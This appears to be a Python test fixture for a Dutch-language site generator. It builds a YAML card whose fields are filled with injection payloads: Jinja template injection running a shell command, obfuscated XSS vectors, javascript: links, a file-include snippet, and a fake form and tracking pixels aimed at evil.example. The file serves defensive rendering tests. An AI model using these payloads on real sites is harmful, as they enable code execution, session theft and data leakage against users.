"""A card from someone who means harm: every attack that once worked on a stock build."""

import json

ATTACKS = [
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{% for x in range(9) %}pwn{% endfor %}",
    "{{ 7*7 }}",
    "<script>window.pwn1 = 1</script>",
    '<img src=x onerror="window.pwn2 = 1">',
    '<iframe srcdoc="<script>parent.window.pwn3 = 1</script>"></iframe>',
    '[a](https://example.com){ onmouseover="window.pwn4 = 1" }',
    "[klik](javascript:window.pwn5=1)",
    "[klik](JaVaScRiPt&#58;window.pwn5=1)",
    "[klik]( &#x6A;avascript:window.pwn5=1)",
    "<javascript:window.pwn5=1>",
    '"</script><script>window.pwn6 = 1</script>',
    '--8<-- "mkdocs.yml"',
    '</div></article><h1>Overgenomen</h1><form action="//evil.example"><input name=w></form>',
    '<div id="__config">{}</div>',
    "![pixel](https://evil.example/p.gif)",
    "![pixel](//evil.example/p.gif)",
    "[link](//evil.example)",
    "<svg/onload=window.pwn7=1>",
    "<style>@import url(https://evil.example/x.css)</style>",
    "<base href=https://evil.example/>",
    "&#123;&#123; 7*7 &#125;&#125;",
    "<!-- --!><script>window.pwn8 = 1</script>",
    "`</code><script>window.pwn9 = 1</script>`",
]
LINE = " ".join(ATTACKS)


def quoted(text: str) -> str:
    """Write any text as a YAML value."""
    return json.dumps(text, ensure_ascii=False)


def hostile_card() -> str:
    """Return a card that has the attacks in its title, its lists and its prose."""
    prose = quoted("\n\n".join(ATTACKS))
    short = [quoted(attack[:58]) for attack in ATTACKS]
    findings = "\n".join(f"  - {{text: {quoted(a)}, sources: [bron-1]}}" for a in ATTACKS)
    partners = "\n".join(f"  - {{name: {name}}}" for name in short)
    questions = "\n".join(f"  - {{text: {quoted(a[:138])}}}" for a in ATTACKS[:5])
    return f"""\
title: {quoted('<script>window.pwn1=1</script>{{ 7*7 }} "kaart"')}
summary: {prose}
place: lier
area: {short[3]}
status: lopend
themes: [buurt]
partners:
{partners}
motive: {prose}
approach: {prose}
result: {prose}
worked:
{findings}
voice: {{level: onbekend, note: {quoted(ATTACKS[3])}}}
effort: {{cost: {quoted(LINE[:190])}, time: {short[4]}, people: {short[0]}}}
figures:
  - {{value: 1, unit: {short[3]}, label: {quoted(LINE[:100])}, shown: "<b>1</b>",
     date: 2012, certainty: vermeld, source: bron-1}}
questions:
{questions}
success_factors:
  - {{name: "<b>vet</b>", text: {quoted(LINE[:80])}}}
contact: {{name: {short[4]}, url: "https://evil.example/'onclick='window.pwn1=1"}}
level: schets
uncertain:
  - {quoted(ATTACKS[13])}
aliases: [{short[3]}]
sources:
  - {{id: bron-1, title: {quoted(LINE[:190])}, publisher: {short[3]},
     url: "https://gazet.example/'onclick='window.pwn1=1"}}
checked_on: 2026-11-21
review_before: 2027-11-21
"""
